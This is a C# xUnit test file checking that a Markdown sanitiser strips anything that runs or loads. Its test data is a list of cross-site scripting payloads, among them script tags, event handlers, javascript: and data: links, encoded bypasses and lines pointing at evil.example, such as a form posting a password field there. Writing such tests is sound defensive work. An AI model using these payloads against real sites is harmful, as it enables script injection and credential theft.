using Groundwork.Deliberation;

namespace Groundwork.Tests.Deliberation;

/// Members' Markdown against a hostile corpus: no script, handler, style, image or non-web link survives.
public sealed class MarkdownTests
{
    public static TheoryData<string> Hostile => new()
    {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](  javascript:alert(1))",
        "[click](java\tscript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        "![x](https://tracker.example/pixel.png)",
        "![x](javascript:alert(1))",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"position:fixed;top:0\">overlay</p>",
        "<style>body{display:none}</style>",
        "<form action=https://evil.example><input name=password></form>",
        "<object data=x></object><embed src=x>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
        "<<script>script>alert(1)<</script>/script>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "[x](https://ok.example \"title\" onmouseover=alert(1))",
        "<details open ontoggle=alert(1)>",
        "```\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`",
        "<!-- <script>alert(1)</script> -->",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "[x](&#106;avascript:alert(1))",
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_markdown_renders_without_anything_that_runs_or_loads(string markdown)
    {
        var html = Markdown.ToSafeHtml(markdown);
        // Parsed as a browser would: escaped text is harmless, so only real elements and attributes are judged.
        var doc = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<body>" + html + "</body>");
        string[] tags = ["p", "br", "hr", "strong", "em", "del", "ins", "mark", "sub", "sup", "code", "pre", "blockquote", "ul", "ol", "li", "a",
            "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"];
        foreach (var e in doc.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(e.LocalName, tags);
            foreach (var a in e.Attributes)
            {
                Assert.Contains(a.Name, new[] { "href", "title", "rel", "start" });
                if (a.Name == "href")
                    Assert.Matches("^(https?://|mailto:)", a.Value.Trim().ToLowerInvariant());
            }
            if (e.LocalName == "a") Assert.Equal("nofollow noopener noreferrer", e.GetAttribute("rel"));
        }
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Ordinary_markdown_keeps_its_formatting_and_links_get_nofollow()
    {
        var html = Markdown.ToSafeHtml("**bold** _it_ `code`\n\n- one\n- two\n\n> quoted\n\n[site](https://example.org) and https://auto.example");
        Assert.Contains("<strong>bold</strong>", html, StringComparison.Ordinal);
        Assert.Contains("<em>it</em>", html, StringComparison.Ordinal);
        Assert.Contains("<code>code</code>", html, StringComparison.Ordinal);
        Assert.Contains("<li>one</li>", html, StringComparison.Ordinal);
        Assert.Contains("<blockquote>", html, StringComparison.Ordinal);
        Assert.Contains("href=\"https://example.org\"", html, StringComparison.Ordinal);
        Assert.Contains("href=\"https://auto.example\"", html, StringComparison.Ordinal);
        Assert.Equal(2, System.Text.RegularExpressions.Regex.Matches(html, "rel=\"nofollow noopener noreferrer\"").Count);
    }

    [Fact]
    public void Raw_html_is_shown_as_text_not_markup()
    {
        var html = Markdown.ToSafeHtml("<b>not bold</b>");
        Assert.DoesNotContain("<b>", html, StringComparison.Ordinal);
        Assert.Contains("&lt;b&gt;", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Mentions_are_found_bracketed_or_as_one_word()
    {
        var names = Markdown.Mentions("Hi @Ana, and @[Ben Bloggs] and mail me at x@example.org. Also @Cy.");
        Assert.Contains("Ana,".TrimEnd(','), names);
        Assert.Contains("Ben Bloggs", names);
        Assert.Contains("Cy", names);
        Assert.DoesNotContain("example.org", names);
    }
}
